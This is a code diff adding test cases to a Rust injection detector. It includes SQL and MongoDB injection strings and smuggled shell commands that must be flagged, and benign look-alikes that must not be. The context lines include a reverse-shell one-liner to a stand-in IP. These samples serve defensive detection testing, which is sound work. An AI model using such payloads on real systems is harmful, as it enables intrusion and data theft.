@@ -37,6 +37,13 @@ fn sqli_examples() {
         "select (id),(2),3 from bar where",
         "(select id from users limit 1,1)",
         "1 into outfile 'x'",
+        // an opened SQL function call, a call appended to a list, MongoDB operators, catalogues
+        "concat (",
+        "select(user(\n",
+        ", FIND_IN_SET('22', Category )",
+        "{\"$where\": \"sleep(100)\"}",
+        "u_id[$ne]=1",
+        "msdb",
     ] {
         assert!(has(s, AttackClass::Sqli), "{s}");
     }
@@ -87,6 +94,12 @@ fn cmdi_examples() {
         "a${IFS}b",
         "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
         "& for %a in (x) do cmd",
+        "time sh -c whoami",
+        "c89 -wrapper sh,-c,id .",
+        "$SHELL -c \"echo hi\"",
+        "~-1",
+        ";ansible-playbook site.yml",
+        ";lastlog -u root",
     ] {
         assert!(has(s, AttackClass::Cmdi), "{s}");
     }
@@ -117,6 +130,11 @@ fn benign_examples() {
         "the european union",
         "5685587||ORDER=||SECTION_ID=||PAGE=2",
         "(see page 1) --",
+        "wait for me (",
+        "{\"$schema\": \"x\"}",
+        "price: $ne",
+        "~user/home",
+        "she -c",
     ] {
         assert!(classes(s).is_empty(), "{s}: {:?}", detect(s));
     }
